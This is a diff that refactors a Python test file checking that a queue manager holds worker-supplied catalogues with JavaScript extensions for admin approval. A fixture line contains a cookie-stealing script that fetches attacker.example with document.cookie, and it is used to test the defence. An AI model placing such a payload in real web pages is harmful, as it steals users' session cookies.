@@ -4,25 +4,22 @@ approved version and a few waiting ones."""
 
 from __future__ import annotations
 
-from collections.abc import AsyncIterator, Callable
+from collections.abc import Callable
 from typing import Any
 
 import httpx
-import pytest
-from redis.asyncio import Redis
 
 from devkit.doubles.comfyui_nodes import catalogue
 from devkit.servers import wait_until
-from services.protocol.workers import WorkerCapabilities, WorkerRegistration
 from services.queue_manager.catalogues import MAX_PENDING
 from services.queue_manager.store import Store
 from tests.support.queue_manager_app import (
     ADMIN,
     ADMIN_PASSWORD,
     WORKER_AUTH,
+    catalogue_registration,
     login,
     register_worker,
-    settings_for,
 )
 
 EVIL = {"evil/steal.js": "fetch('https://attacker.example/' + document.cookie)"}
@@ -69,34 +66,22 @@ def test_a_leaked_tokens_javascript_and_missing_nodes_wait_for_the_admin(
     assert "/extensions/evil/steal.js" in served(alice)[1]
 
 
-def registration(worker_id: str, digest: str, nodes: dict[str, Any], **ext: str) -> WorkerRegistration:
-    caps = WorkerCapabilities(pool="gpu", provider="local", catalogue_hash=digest)
-    return WorkerRegistration(worker_id=worker_id, capabilities=caps, catalogue=nodes, extensions=ext)
-
-
-@pytest.fixture
-async def store(redis_url: str) -> AsyncIterator[Store]:
-    redis = Redis.from_url(redis_url, decode_responses=True)
-    yield Store(redis, settings_for(redis_url))
-    await redis.aclose()
-
-
 async def test_the_first_version_goes_live_only_without_javascript(store: Store) -> None:
-    await store.register(registration("w1", "cat-js", catalogue([]), **{"p/x.js": "1"}))
+    await store.register(catalogue_registration("w1", "cat-js", catalogue([]), {"p/x.js": "1"}))
     assert (await store.catalogue_state()).approved == ""
-    await store.register(registration("w2", "cat-plain", catalogue([])))
+    await store.register(catalogue_registration("w2", "cat-plain", catalogue([])))
     state = await store.catalogue_state()
     assert state.approved == "cat-plain" and [c.digest for c in state.pending] == ["cat-js"]
 
 
 async def test_a_version_that_removes_an_option_or_changes_a_node_waits(store: Store) -> None:
-    await store.register(registration("w1", "cat-v1", grown()))
+    await store.register(catalogue_registration("w1", "cat-v1", grown()))
     fewer = grown()
     fewer["ImageScale"]["input"]["required"]["upscale_method"] = [["nearest-exact"]]
     changed = grown()
     changed["ImageInvert"]["output"] = ["MASK"]
-    await store.register(registration("w2", "cat-fewer", fewer))
-    await store.register(registration("w3", "cat-changed", changed))
+    await store.register(catalogue_registration("w2", "cat-fewer", fewer))
+    await store.register(catalogue_registration("w3", "cat-changed", changed))
     state = await store.catalogue_state()
     assert state.approved == "cat-v1"
     assert {c.digest: c.changed for c in state.pending} == {
@@ -107,10 +92,10 @@ async def test_a_version_that_removes_an_option_or_changes_a_node_waits(store: S
 
 async def test_only_the_approved_and_the_newest_waiting_versions_stay_in_redis(store: Store) -> None:
     await store.redis.set(store.keys.catalogue("cat-from-before"), "{}")  # stored before the rule
-    await store.register(registration("w0", "cat-base", catalogue([])))
+    await store.register(catalogue_registration("w0", "cat-base", catalogue([])))
     for index in range(MAX_PENDING + 6):  # a leaked token registering under ever new hashes
         await store.register(
-            registration(f"w{index + 1}", f"cat-{index}", catalogue([]), **{"p/x.js": str(index)})
+            catalogue_registration(f"w{index + 1}", f"cat-{index}", catalogue([]), {"p/x.js": str(index)})
         )
     kept = [key async for key in store.redis.scan_iter(f"{store.prefix}:catalogue:*")]
     newest = {f"cat-{index}" for index in range(6, MAX_PENDING + 6)}
